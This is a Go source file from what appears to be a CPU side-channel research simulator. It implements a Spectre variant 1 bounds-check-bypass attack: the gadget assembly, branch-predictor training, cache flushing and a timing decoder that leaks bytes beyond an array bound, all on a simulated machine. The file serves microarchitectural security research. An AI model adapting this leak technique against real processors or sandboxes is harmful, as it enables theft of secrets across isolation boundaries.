package core

import (
	"fmt"

	"whisper/internal/cpu"
	"whisper/internal/isa"
	"whisper/internal/kernel"
)

// v1CodeBase isolates the Spectre-V1 gadget's code.
const v1CodeBase = kernel.UserCodeBase + 0x40000

// SpectreV1 is a TET-decoded Spectre variant 1 (bounds-check bypass) — an
// extension beyond the paper's attack list, built from the same channel: the
// window opens on a mispredicted bounds check whose limit load was flushed,
// the transient out-of-bounds read feeds an in-window Jcc, and the secret
// comes back purely as execution time. Like TET-RSB there is no fault, so
// no suppression is needed; the trigger squashes the wrong-path work early,
// so the decode takes the argmin.
type SpectreV1 struct {
	m       *cpu.Machine
	prog    *isa.Program
	lenVA   uint64
	arrVA   uint64
	arrLen  uint64
	Batches int
}

// NewTETSpectreV1 builds the victim-style gadget:
//
//	if (idx < *len) { v = arr[idx]; if (v == test) nop; }
//
// arr and len live in the user data region; the "secret" is whatever sits
// beyond arr (in-process sandbox threat model, as TET-RSB).
func NewTETSpectreV1(k *kernel.Kernel) (*SpectreV1, error) {
	if k == nil {
		return nil, errNotBooted
	}
	a := &SpectreV1{
		m:       k.Machine(),
		lenVA:   kernel.UserDataBase + 0x7000,
		arrVA:   kernel.UserDataBase + 0x7100,
		arrLen:  16,
		Batches: 3,
	}
	pa, ok := k.UserAS().Translate(a.lenVA)
	if !ok {
		return nil, fmt.Errorf("core: TET-V1 length VA unmapped")
	}
	a.m.Phys.Write(pa, 8, a.arrLen)

	b := isa.NewBuilder(v1CodeBase)
	// R9 = idx, RDX = test value, R10 = &len, R11 = arr base.
	b.Rdtsc(isa.RSI)
	b.Lfence()
	b.LoadQ(isa.RAX, isa.R10, 0) // len (flushed before the probe: slow resolve)
	b.Cmp(isa.R9, isa.RAX)
	b.Jcc(isa.CondNC, "oob") // idx >= len: architecturally taken on probes
	// ---- transient in-bounds path ----
	b.Add(isa.RBX, isa.R11, isa.R9)
	b.LoadB(isa.RCX, isa.RBX, 0) // out-of-bounds read under misprediction
	b.Cmp(isa.RCX, isa.RDX)
	b.Jcc(isa.CondE, "taken")
	b.NopSled(gadgetSled) // fall-through keeps issuing wrong-path work
	b.Jmp("oob")
	b.Label("taken")
	b.Lfence() // trigger path stalls issue: cheap final squash
	b.Label("oob")
	b.Lfence()
	b.Rdtsc(isa.RDI)
	b.Halt()
	prog, err := b.Assemble()
	if err != nil {
		return nil, fmt.Errorf("core: assemble V1 gadget: %w", err)
	}
	a.prog = prog
	return a, nil
}

// train runs the gadget with an in-bounds index so the bounds check learns
// "not taken" (speculate into the array access).
func (a *SpectreV1) train() error {
	for i := 0; i < 3; i++ {
		if _, err := a.run(uint64(i%int(a.arrLen)), 256, false); err != nil {
			return err
		}
	}
	return nil
}

// run executes one gadget pass. flushLen evicts the length so the bounds
// check resolves late, opening the transient window.
func (a *SpectreV1) run(idx, test uint64, flushLen bool) (uint64, error) {
	p := a.m.Pipe
	if flushLen {
		if pa, ok := p.AddressSpace().Translate(a.lenVA); ok {
			a.m.Hier.Flush(pa)
		}
	}
	p.SetReg(isa.R9, idx)
	p.SetReg(isa.RDX, test)
	p.SetReg(isa.R10, a.lenVA)
	p.SetReg(isa.R11, a.arrVA)
	return ToTE(p, a.prog)
}

// LeakByte recovers the byte at arr[idx] for an out-of-bounds idx. The
// bounds check is trained before the first warm-up probe and again before
// every real one: each OOB probe resolves "taken" and would otherwise
// saturate the predictor and close the speculation window (standard V1
// discipline).
func (a *SpectreV1) LeakByte(idx uint64) (byte, error) {
	trained := false
	return decoder{warmup: 16, batches: a.Batches, sign: SignShorter}.decode(a.m, func(test uint64) (uint64, error) {
		if !trained || test < 256 { // test 256 is the warm-up's never-matching value
			if err := a.train(); err != nil {
				return 0, err
			}
			trained = true
		}
		return a.run(idx, test, true)
	})
}

// Leak reads n bytes starting at the given out-of-bounds offset from the
// array base.
func (a *SpectreV1) Leak(offset uint64, n int) (LeakResult, error) {
	return LeakBytes(a.m, "TET-V1", n, func(i int) (byte, error) {
		return a.LeakByte(offset + uint64(i))
	})
}

// ArrayVA returns the bounded array's base address (the secret sits beyond
// ArrayLen bytes from here).
func (a *SpectreV1) ArrayVA() uint64 { return a.arrVA }

// ArrayLen returns the architectural array length.
func (a *SpectreV1) ArrayLen() uint64 { return a.arrLen }
